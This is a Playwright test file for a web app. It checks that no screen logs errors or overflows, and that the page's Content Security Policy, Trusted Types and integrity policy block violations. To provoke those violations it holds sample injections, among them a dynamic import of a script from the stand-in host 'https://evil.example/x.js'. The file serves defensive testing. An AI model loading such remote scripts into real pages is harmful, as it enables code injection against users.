import { isAll } from '@studio-desk/test-kit/presets/test-limits';
import type { Page } from '@playwright/test';
import { expect, signIn, test } from '../fixtures/test';
import { deskWithRecords } from './places/desk';
import { signInPlaces } from './places/entrance-places';
import { visit, type Look } from './places/place';
import { screenPlaces } from './places/screen-places';

// In the gate, the accessibility checker opens the same screens in the light theme.
const LOOKS: readonly Look[] = isAll
  ? [
      [1440, 'light'],
      [390, 'dark'],
    ]
  : [[390, 'dark']];

/** Logs code that the Integrity-Policy blocks, because browsers block it silently. */
const reportUnhashedCode = (page: Page) =>
  page.addInitScript(() => {
    const observer = new ReportingObserver(
      (reports) => reports.forEach(({ type, body }) => console.error(type, JSON.stringify(body))),
      { types: ['integrity-violation'], buffered: true },
    );
    observer.observe();
  });

// Every test fails on a console error; this one visits every screen.
test('no screen logs an error or scrolls sideways', async ({ page, app, account }) => {
  await reportUnhashedCode(page);
  const check = async () => {
    await expect(page).toHaveTitle(/Studio Desk$/);
    const overflow = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
    expect(overflow).toBeLessThanOrEqual(0);
  };
  const desk = await deskWithRecords(page, app, account);
  await visit(desk, signInPlaces, () => LOOKS, check);
  await signIn(page, app, account);
  await visit(desk, screenPlaces, () => LOOKS, check);
});

test("code and styles that the page's policies block are reported in the console", async ({
  page,
  app,
  allowConsole,
}) => {
  allowConsole(/Trusted|Content Security Policy|integrity-violation/);
  const errors: string[] = [];
  page.on('console', (message) => void (message.type() === 'error' && errors.push(message.text())));
  await reportUnhashedCode(page);
  await page.goto(`${app.shellUrl}/login`);
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  expect(errors).toEqual([]);
  const provoke: Record<string, () => void> = {
    TrustedHTML: () => void (document.createElement('div').innerHTML = '<b>markup</b>'),
    TrustedScript: () => document.body.setAttribute('onclick', 'code()'),
    'script-src': () => void import(String('https://evil.example/x.js')).catch(() => undefined),
    'style-src': () => {
      const style = document.createElement('style');
      style.textContent = '* { color: red }';
      document.head.append(style);
    },
    'integrity-violation': () => void import(String('/remoteEntry.js?other')).catch(() => undefined),
  };
  for (const [message, violate] of Object.entries(provoke)) {
    await page.evaluate(violate).catch(() => undefined);
    await expect.poll(() => errors.join('\n')).toContain(message);
  }
});
